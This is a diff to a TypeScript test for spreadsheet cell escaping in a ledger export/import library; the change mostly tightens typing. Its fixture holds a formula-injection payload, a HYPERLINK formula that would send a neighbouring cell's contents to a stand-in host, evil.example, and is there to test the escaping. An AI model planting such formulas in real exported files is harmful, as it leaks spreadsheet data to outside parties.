@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { escapeCell, unescapeCell } from '../../src/lib/ledgers/cell-escaping';
-import { sitesLedger } from '../../src/lib/ledgers/definitions';
+import { sitesLedger, type SiteRecord } from '../../src/lib/ledgers/definitions';
 import { toLedgerTable } from '../../src/lib/ledgers/ledger';
 import { validateLedger } from '../../src/lib/ledgers/validate-ledger';
 
@@ -43,14 +43,14 @@ describe('unescapeCell', () => {
 	});
 
 	it('lets a ledger import read an exported row back unchanged, negative coordinates included', () => {
-		const site = { code: 'S-1', name: '=HYPERLINK("http://evil.example/?leak="&A2,"点击")', kind: 'fixed', township: '@城门街道', villages: ['-白畈村'], longitude: -0.5, latitude: -29.5, crs: null, desks: 3, pooling: '10:1', opensAt: null, closesAt: null, status: null } as const;
+		const site: SiteRecord = { code: 'S-1', name: '=HYPERLINK("http://evil.example/?leak="&A2,"点击")', kind: 'fixed', township: '@城门街道', villages: ['-白畈村'], longitude: -0.5, latitude: -29.5, crs: null, desks: 3, pooling: '10:1', opensAt: null, closesAt: null, status: null };
 		const table = toLedgerTable(sitesLedger, [site]);
-		const exported = table.rows.map((row) => row.map((cell, index) => escapeCell(cell, typeof (site as Record<string, unknown>)[sitesLedger.columns[index].key] === 'number' ? 'number' : 'text')));
+		const exported = table.rows.map((row) => row.map((cell, index) => escapeCell(cell, typeof (site as unknown as Record<string, unknown>)[sitesLedger.columns[index].key] === 'number' ? 'number' : 'text')));
 		expect(exported[0]).toContain('-0.5');
 		expect(exported[0]).toContain(`'${site.name}`);
 		// What the import should do with each cell before its column parses it.
 		const imported = validateLedger(sitesLedger, { headers: table.headers, rows: exported.map((row) => row.map(unescapeCell)) });
 		expect(imported.issues).toEqual([]);
-		expect(imported.records[0].record).toEqual({ ...site, villages: ['-白畈村'] });
+		expect(imported.records[0].record).toEqual(site);
 	});
 });
